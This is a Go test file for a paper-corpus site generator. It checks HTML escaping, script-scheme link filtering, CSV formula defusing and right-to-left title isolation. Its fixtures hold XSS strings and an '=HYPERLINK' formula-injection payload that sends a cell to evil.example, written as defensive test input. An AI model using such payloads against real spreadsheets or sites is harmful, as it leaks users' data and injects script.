package site

import (
	"encoding/csv"
	"html"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/masrl/masrl/corpus"
	"github.com/masrl/masrl/data"
)

// hostileRows are papers.csv rows whose every free-text field holds what
// an escaper can get wrong: markup, quotes, ampersands, plus signs, NUL,
// script URLs, spaces and non-ASCII bytes in URLs, invalid UTF-8, and a
// controlled value outside the vocabulary.
var hostileRows = []string{
	`k1,"<b>T</b> & ""q"" 'a' +1 </script>",<A>,"Aff & <i>",2025,2501.00001,"V<x>+","https://ok.example/a b?x=1&y=+é ; javascript:alert(1) ; JAVASCRIPT:x ; ftp://x/a ; https://h.example/%2F'""<>",survey,yes,NA,NA,NA,NA,core,"one <liner> & '""",yes,"notes ` + "\x00" + ` & <script>alert(1)</script>"`,
	`k2,Plain,B,,2024,,arXiv,,benchmark,no,NA,NA,NA,NA,supporting,,partial,`,
	"k3,\"bad \xff\xfe utf8\",C,,2023,not-an-id,V,https://x.example/\xff,industry,partial,shared,agent,centralized,coding,case,x,no,n",
	`k4,T4,D,,2025,2502.00002,V,mailto:a@b.example,rl_method,yes,bogus_value,message,debate,math,core,y,yes,`,
}

// siteScript is a script element the site writes itself: an external
// script of its own, a JSON data island or the page's JSON-LD (data, not
// code), never inline code.
var siteScript = regexp.MustCompile(`<script src="[^"<>]*"( defer)?></script>|<script type="application/json" id="[a-z-]+">|<script type="application/ld\+json">`)

// TestHostileRows renders a whole site from rows that never passed the
// check and holds every page to the escaping rules: no markup or script
// from the data survives as markup, no link uses a script scheme, and the
// free text reads back as the original wherever the entry page shows it.
func TestHostileRows(t *testing.T) {
	header := strings.Join(corpus.PaperColumns(), ",") + "\n"
	csv := header + strings.Join(hostileRows, "\n") + "\n"
	c, err := corpus.ParsePapers("papers.csv", []byte(csv))
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Papers) != len(hostileRows) {
		t.Fatalf("%d hostile rows parsed, want %d", len(c.Papers), len(hostileRows))
	}
	c.Dir = t.TempDir()
	res, err := Build(unchecked(t, c), Options{})
	if err != nil {
		t.Fatal(err)
	}
	files := res.Files
	for _, name := range files.Names() {
		if !strings.HasSuffix(name, ".html") {
			continue
		}
		b, _ := files.Get(name)
		p := string(b)
		if m := unsafeHref.FindString(p); m != "" {
			t.Errorf("%s: script link %q", name, m)
		}
		for _, bad := range []string{"<b>", "<i>", "<x>", "<liner>", "<A>", "alert(1)</script>"} {
			if strings.Contains(p, bad) {
				t.Errorf("%s: %q from the data is markup", name, bad)
			}
		}
		if n := strings.Count(strings.ToLower(p), "<script"); n != len(siteScript.FindAllString(p, -1)) {
			t.Errorf("%s: %d script elements, only %d of them the site's own", name, n, len(siteScript.FindAllString(p, -1)))
		}
	}
	page := page(t, files, "papers/k1/index.html")
	e := c.Papers[0]
	for _, f := range []struct{ name, before, after, want string }{
		{"title", "<h1><bdi>", "</bdi></h1>", e.Title},
		{"first author", "<dt>First author</dt><dd><bdi>", "</bdi> <span", e.FirstAuthor},
		{"affiliation", `<span class="affiliation">(<bdi>`, "</bdi>)</span>", e.Affiliation},
		{"venue", "<dt>Venue</dt><dd>", "</dd>", e.Venue},
		{"one-liner", `<p class="one-liner">`, "</p>", e.OneLiner},
		{"notes", "<h2 id=\"notes-h\">Notes</h2>\n<p>", "</p>\n</section>", strings.ReplaceAll(e.Notes, "\x00", "\uFFFD")},
	} {
		_, rest, ok := strings.Cut(page, f.before)
		if !ok {
			t.Fatalf("%s: no %q on the entry page", f.name, f.before)
		}
		got, _, _ := strings.Cut(rest, f.after)
		if strings.ContainsAny(got, "<>") || html.UnescapeString(got) != f.want {
			t.Errorf("%s %q rendered as %q", f.name, f.want, got)
		}
	}
	for _, want := range []string{
		`<span class="not-a-link">javascript:alert(1)</span>`,
		`<span class="not-a-link">JAVASCRIPT:x</span>`,
		`<span class="not-a-link">ftp://x/a</span>`,
		`<span class="not-a-link">https://h.example/%2F&#39;&#34;&lt;&gt;</span>`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the entry page lacks %s", want)
		}
	}
}

// TestDownloadsDefuseFormulas requires the published papers.csv and
// excluded.csv to hold no cell a spreadsheet would run as a formula: the
// corpus's own cells that start with =, +, -, @ (warnings of the check)
// get the apostrophe the papers page's client-side export gives them, and
// nothing else of the files changes.
func TestDownloadsDefuseFormulas(t *testing.T) {
	dir := corpusFromTxtar(t, "tiny.txtar")
	hyperlink := `"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`
	for name, edit := range map[string][2]string{
		"papers.csv":   {"Gamma Benchmark for Teams", "@Gamma Benchmark for Teams"},
		"excluded.csv": {"Some Debate Paper", hyperlink},
	} {
		p := filepath.Join(dir, name)
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(strings.Replace(string(b), edit[0], edit[1], 1)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	files := mustLoad(t, openCorpus(t, dir, data.Dir(filepath.Join(dir, "data"))), Options{})
	for _, name := range []string{"papers.csv", "excluded.csv"} {
		src, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		published := page(t, files, name)
		recs, err := csv.NewReader(strings.NewReader(published)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		defused := 0
		for _, rec := range recs {
			for _, cell := range rec {
				if corpus.FormulaLeading(cell) {
					t.Errorf("%s: cell %q is published as a formula", name, cell)
				}
				if strings.HasPrefix(cell, "'") {
					defused++
				}
			}
		}
		if defused == 0 || len(published) != len(src)+defused {
			t.Errorf("%s: %d cells defused, %d bytes published from %d: want only apostrophes added", name, defused, len(published), len(src))
		}
	}
}

// TestTitlesIsolated requires every title from the corpus that a page
// shows as text to sit in a <bdi>: an unterminated RIGHT-TO-LEFT OVERRIDE
// in a title (the check refuses it, a build of an unchecked corpus does
// not) then reverses only the title, not the year, venue and authors the
// list prints after it.
func TestTitlesIsolated(t *testing.T) {
	dir := corpusFromTxtar(t, "tiny.txtar")
	p := filepath.Join(dir, "papers.csv")
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	const title = "Gamma \u202EBenchmark for Teams"
	if err := os.WriteFile(p, []byte(strings.Replace(string(b), "Gamma Benchmark for Teams", title, 1)), 0o644); err != nil {
		t.Fatal(err)
	}
	c, err := corpus.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	files := mustLoad(t, unchecked(t, c), Options{})
	shown := 0
	for _, name := range files.Names() {
		if !strings.HasSuffix(name, ".html") {
			continue
		}
		page := page(t, files, name)
		for i := strings.Index(page, title); i >= 0; {
			// Text, not an attribute or the <title>: the title follows
			// the end of a tag.
			if i > 0 && page[i-1] == '>' && !strings.HasSuffix(page[:i], "<title>") {
				shown++
				if !strings.HasSuffix(page[:i], "<bdi>") || !strings.HasPrefix(page[i+len(title):], "</bdi>") {
					t.Errorf("%s: title shown outside a <bdi>: %q", name, page[max(0, i-40):min(len(page), i+len(title)+20)])
				}
			}
			j := strings.Index(page[i+1:], title)
			if j < 0 {
				break
			}
			i += 1 + j
		}
	}
	if shown < 3 {
		t.Errorf("the title is shown on %d pages, want the list, its entry page and its taxonomy pages", shown)
	}
}

// TestFormulaRuleMatchesSearchJS holds the papers page's client-side CSV
// export (search.js's csvCell) and corpus.FormulaLeading, which the
// downloads use, to one rule: the same leading characters are defused.
func TestFormulaRuleMatchesSearchJS(t *testing.T) {
	js, err := os.ReadFile(filepath.Join("assets", "search.js"))
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`function csvCell[\s\S]*?if \(/(\^\[[^\]]+\])/\.test\(s\)\)`).FindSubmatch(js)
	if m == nil {
		t.Fatal("search.js: no csvCell with a /^[...]/ test")
	}
	re, err := regexp.Compile(string(m[1]))
	if err != nil {
		t.Fatalf("search.js's %s: %v", m[1], err)
	}
	for r := range rune(0x180) {
		s := string(r) + "x"
		if js, goRule := re.MatchString(s), corpus.FormulaLeading(s); js != goRule {
			t.Errorf("%q: search.js defuses it: %v, corpus.FormulaLeading: %v", s, js, goRule)
		}
	}
}
